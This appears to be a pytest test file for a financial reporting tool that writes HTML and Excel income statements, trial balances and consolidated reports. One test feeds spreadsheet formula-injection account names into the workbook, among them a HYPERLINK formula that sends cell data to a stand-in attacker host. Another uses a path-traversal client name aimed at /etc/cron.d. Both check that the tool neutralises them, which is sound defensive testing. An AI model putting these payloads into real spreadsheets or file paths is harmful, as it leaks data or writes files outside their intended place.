"""``osr report`` writes HTML and Excel; the HTML is read back by a real headless browser, the workbook by openpyxl."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from zipfile import ZipFile

import pytest
import yaml
from openpyxl import load_workbook

from .conftest import synthetic_connection, write_registry
from .helpers import osr
from .report_books import COMPANY, insert_books

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
sqlite_only = pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)


class Elements(HTMLParser):
    """Every element of a document as (tag, attributes, text inside), in order."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str], list[str]]] = []
        self._open: list[list[str]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        texts: list[str] = []
        self.elements.append((tag, dict(attrs), texts))
        self._open.append(texts)

    def handle_endtag(self, tag: str) -> None:
        if self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        for texts in self._open:
            texts.append(data)


def browser_dom(page: Path) -> Elements:
    """The DOM as Chromium built it from the page (not the file as written)."""
    done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                           "--no-first-run", "--dump-dom", page.as_uri()], capture_output=True, text=True,
                          timeout=120, check=True)
    parsed = Elements()
    parsed.feed(done.stdout)
    return parsed


@pytest.fixture
def books_home(home: Path, warehouse_url: str) -> Path:
    insert_books(warehouse_url).dispose()
    write_registry(home / "registry.yaml", [synthetic_connection("books")], [("books", "sek")])
    return home


def written(output: str) -> tuple[Path, Path]:
    page = re.search(r"HTML\s+(\S+\.html)", output)
    book = re.search(r"Excel\s+(\S+\.xlsx)", output)
    assert page and book, output
    return Path(page.group(1)), Path(book.group(1))


@sqlite_only
def test_income_statement_html_renders_in_a_browser(books_home: Path) -> None:
    page, _ = written(osr("report", "income-statement", "--company", COMPANY, "--period", "2023-12").output)
    assert page.parent == books_home / "reports"
    dom = browser_dom(page)
    title = next(" ".join(t).strip() for tag, _, t in dom.elements if tag == "h1")
    assert title == "Income statement 2023-12: books.sek"
    rows = [[" ".join(t).strip() for tag, _, t in dom.elements[i + 1:] if tag == "td"][:6]
            for i, (tag, attrs, _) in enumerate(dom.elements) if tag == "tr" and attrs.get("class") == "strong"]
    assert rows == [["3", "Salgs- og driftsinntekt", "0.00", "1 000.00", "400.00", "400.00"],
                    ["4", "Varekostnad", "-300.00", "-300.00", "0.00", "0.00"],
                    ["", "Resultat", "-300.00", "700.00", "400.00", "400.00"]]
    bars = {(a["class"], a["data-category"]): Decimal(a["data-value"]) for tag, a, _ in dom.elements
            if tag == "rect" and "bar" in a.get("class", "")}
    assert len(bars) == 24  # twelve months of 2023 against twelve of 2022
    assert bars[("bar this-year", "Nov")] == Decimal("1000.00")
    assert bars[("bar this-year", "Dec")] == Decimal("-300.00")
    assert bars[("bar last-year", "Dec")] == Decimal("400.00")
    svg = next(a for tag, a, _ in dom.elements if tag == "svg")
    assert svg["id"] == "monthly-result" and "2023 against 2022 (SEK)" in svg["aria-label"]


@sqlite_only
def test_trial_balance_workbook_holds_numbers(books_home: Path, tmp_path: Path) -> None:
    output = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01", "--out", str(tmp_path)).output
    page, book = written(output)
    assert (page.parent, book.name) == (tmp_path, "books.sek-trial-balance-2024-01.xlsx")
    sheet = load_workbook(book)["Trial balance"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Trial balance 2024-01 (SEK)", None, None, None, None, None, None]
    assert rows[1] == ["Account", "Name", "Opening", "Debit", "Credit", "Movement", "Closing"]
    by_account = {r[0]: r[2:] for r in rows[2:]}
    assert by_account["1920"] == [1400, 500, 200, 300, 1700]
    assert by_account["2050"] == [-1100, 0, 0, 0, -1100]
    assert rows[-1] == [None, "Sum", 0, 700, 700, 0, 0]
    assert sheet.cell(3, 3).number_format == "#,##0.00"


#: account names as an ERP may hand them over: each would be a live formula in a spreadsheet
FORMULAS = {"1920": '=HYPERLINK("http://evil.example/?"&C3,"Klikk")', "2400": "\r+47 Gjeld", "3000": "@SUM(C3:C9)",
            "6300": "-1+2 Leie", "2050": "\t=1+1"}


def test_erp_text_that_looks_like_a_formula_stays_text_in_the_workbook(home: Path, warehouse_url: str,
                                                                        tmp_path: Path) -> None:
    from sqlalchemy import update

    from osr_pipelines.warehouse.schema import dimension_tables

    wh = insert_books(warehouse_url)
    accounts = dimension_tables["accounts"]
    with wh.engine.begin() as conn:
        for number, name in FORMULAS.items():
            conn.execute(update(accounts).where(accounts.c.number == number).values(name=name))
    wh.dispose()
    write_registry(home / "registry.yaml", [synthetic_connection("books")], [("books", "sek")])
    _, book = written(osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01",
                          "--out", str(tmp_path / "out")).output)
    sheet = load_workbook(book)["Trial balance"]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3) if row[0].value}
    # XML reads a carriage return back as a line feed: still text, as the data type says
    assert {n: names[n].value for n in FORMULAS} == {n: text.replace("\r", "\n") for n, text in FORMULAS.items()}
    assert {names[number].data_type for number in FORMULAS} == {"s"}
    assert all(names[number].quotePrefix for number in FORMULAS)
    row_2050 = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == "2050")
    assert (row_2050[2].value, row_2050[2].data_type) == (-1100, "n")  # a negative amount is still a number
    with ZipFile(book) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", xml) and "HYPERLINK" in xml
    assert re.search(r'<c r="B\d+"[^>]* t="inlineStr"><is><t>=HYPERLINK', xml)


@sqlite_only
@pytest.mark.parametrize("period", ["0000-01", "2024-13", "3000-01"])
def test_a_period_outside_the_calendar_is_a_usage_error(books_home: Path, period: str) -> None:
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", period, ok=False)
    assert result.exit_code == 2, result.output
    assert (f"Error: Invalid value for '--period': '{period}' is not a month from 1900-01 to 2999-12; write it as "
            "YYYY-MM, e.g. 2024-03") in result.output
    assert not (books_home / "reports").exists()


@pytest.fixture
def unwritable(tmp_path: Path) -> Iterator[Path]:
    """A folder nothing can be written to, for root too (an immutable folder: root's permission bits are moot)."""
    folder = tmp_path / "locked"
    folder.mkdir()
    if os.geteuid() != 0:
        folder.chmod(0o500)
    elif subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
        pytest.skip("this file system cannot make a folder immutable")
    try:
        yield folder
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(folder)], check=True)
        folder.chmod(0o700)


@sqlite_only
def test_an_out_folder_that_cannot_be_written_is_one_line(books_home: Path, unwritable: Path, tmp_path: Path) -> None:
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01", "--out", str(unwritable),
                 ok=False)
    assert result.exit_code == 1
    assert re.fullmatch(rf"Error: --out {unwritable}: cannot write there \((permission denied|operation not "
                        r"permitted)\)\n", result.output), result.output
    (tmp_path / "file").write_text("")
    result = osr("report", "trial-balance", "--company", COMPANY, "--period", "2024-01",
                 "--out", str(tmp_path / "file" / "reports"), ok=False)
    assert (result.exit_code, result.output) == (1, f"Error: --out {tmp_path / 'file' / 'reports'}: cannot write "
                                                    "there (not a directory)\n")


@sqlite_only
def test_a_company_not_in_the_registry_is_named(books_home: Path) -> None:
    result = osr("report", "balance-sheet", "--company", "books.nope", ok=False)
    assert result.exit_code == 1
    assert "company 'books.nope' is not in the registry" in result.output
    assert not (books_home / "reports").exists()


@sqlite_only
def test_a_clients_consolidated_report_shows_eliminations_in_browser_and_workbook(home: Path,
                                                                                 warehouse_url: str) -> None:
    from .group_books import RATES_CSV, insert_group

    insert_group(warehouse_url).dispose()
    (home / "registry.yaml").write_text(yaml.safe_dump({
        "customers": [{"name": "Acme", "groups": [{"name": "Acme", "clients": [{"name": "Group"}]}]}],
        "connections": [synthetic_connection("g")],
        "companies": [{"connection": "g", "erp_id": e, "name": e, "client": "Group"} for e in ("parent", "sub")]}))
    (home / "rates.csv").write_text(RATES_CSV)
    (home / "consolidation.yaml").write_text(yaml.safe_dump({"clients": {"Group": {
        "currency": "NOK", "rates": "rates.csv", "eliminate": {"counterparty": "free_dimension_1"}}}}))
    page, book = written(osr("report", "income-statement", "--client", "Group").output)
    dom = browser_dom(page)
    headers = [" ".join(t).strip() for tag, _, t in dom.elements if tag == "th"][:6]
    assert headers == ["Line", "Name", "g.parent", "g.sub", "Eliminations", "Consolidated"]
    result = {a["data-category"]: Decimal(a["data-value"]) for tag, a, _ in dom.elements
              if tag == "rect" and a.get("class") == "bar result"}
    assert result == {"g.parent": Decimal("700.00"), "g.sub": Decimal("1900.00"), "Eliminations": Decimal("0.00"),
                      "Consolidated": Decimal("2600.00")}
    revenue = {a["data-category"]: Decimal(a["data-value"]) for tag, a, _ in dom.elements
               if tag == "rect" and a.get("class") == "bar revenue"}
    assert revenue == {"g.parent": Decimal("950.00"), "g.sub": Decimal("2850.00")}
    rows = {r[1].value: [c.value for c in r[2:]] for r in load_workbook(book)["Consolidated income statement"]
            .iter_rows(min_row=3)}
    assert rows["Salgs- og driftsinntekt"] == [950, 2850, -950, 2850]
    assert osr("report", "trial-balance", "--client", "Group", ok=False).exit_code == 2


@pytest.mark.parametrize("name", ["N" * 300, "Bjørn\u202e & Åse\u200b <Gruppe>", "../../etc/cron.d/x"],
                         ids=["300-characters", "override-and-zero-width", "slashes"])
def test_any_client_name_gives_a_safe_file_name_and_keeps_its_text_inside(warehouse_url: str, tmp_path: Path,
                                                                          name: str) -> None:
    from html import escape

    from osr_pipelines.reports import files
    from osr_pipelines.reports.consolidation import ClientSetup, Eliminations, consolidate
    from osr_pipelines.reports.rates import rates_from_csv

    from .group_books import PARENT, RATES_CSV, SUB, insert_group

    wh = insert_group(warehouse_url)
    (tmp_path / "rates.csv").write_text(RATES_CSV)
    setup = ClientSetup(name, "NOK", (PARENT, SUB), Eliminations(counterparty="free_dimension_1"))
    group = consolidate(wh.engine, setup, rates_from_csv(tmp_path / "rates.csv"), 202401)
    wh.dispose()
    page, book = files.write(files.client_document(group, "balance-sheet"), tmp_path / "out")
    assert page.parent == book.parent == tmp_path / "out"  # nothing written elsewhere
    stem = page.name.removesuffix("-consolidated-balance-sheet-2024-01.html")
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,71}-[0-9a-f]{8}", stem), page.name
    assert book.name == f"{stem}-consolidated-balance-sheet-2024-01.xlsx"
    assert f"<h1>Consolidated balance sheet 2024-01: {escape(name)}</h1>" in page.read_text(encoding="utf-8")


def test_file_names_keep_safe_names_and_never_share_a_file() -> None:
    from osr_pipelines.reports.files import file_name

    assert [file_name(n) for n in ("books.sek", "Group", "acme-tt.1001")] == ["books.sek", "Group", "acme-tt.1001"]
    assert file_name("Bjørn Æble Åse") == "Bjorn_Aeble_Ase"  # spelled out, readable, no hash
    names = ["Acme Group", "Acme-Group", "Acme\u200bGroup", "AcmeGroup", "Acme\u202eGroup", "N" * 300, "N" * 301]
    assert len({file_name(n) for n in names}) == len(names)
    assert max(len(file_name(n)) for n in names) == 80


def test_a_clients_name_with_letters_beyond_ascii_names_its_files_through_osr_report(home: Path,
                                                                                    warehouse_url: str) -> None:
    from .group_books import RATES_CSV, insert_group

    client = "Bjørn & Åse Gruppe"
    insert_group(warehouse_url).dispose()
    (home / "registry.yaml").write_text(yaml.safe_dump({
        "customers": [{"name": "Acme", "groups": [{"name": "Acme", "clients": [{"name": client}]}]}],
        "connections": [synthetic_connection("g")],
        "companies": [{"connection": "g", "erp_id": e, "name": e, "client": client} for e in ("parent", "sub")]},
        allow_unicode=True), encoding="utf-8")
    (home / "rates.csv").write_text(RATES_CSV)
    (home / "consolidation.yaml").write_text(yaml.safe_dump({"clients": {client: {
        "currency": "NOK", "rates": "rates.csv", "eliminate": {"counterparty": "free_dimension_1"}}}},
        allow_unicode=True), encoding="utf-8")
    page, _ = written(osr("report", "income-statement", "--client", client).output)
    assert re.fullmatch(r"Bjorn_Ase_Gruppe-[0-9a-f]{8}-consolidated-income-statement-2024-01\.html", page.name)
    assert "<h1>Consolidated income statement 2024-01: Bjørn &amp; Åse Gruppe</h1>" in page.read_text(encoding="utf-8")
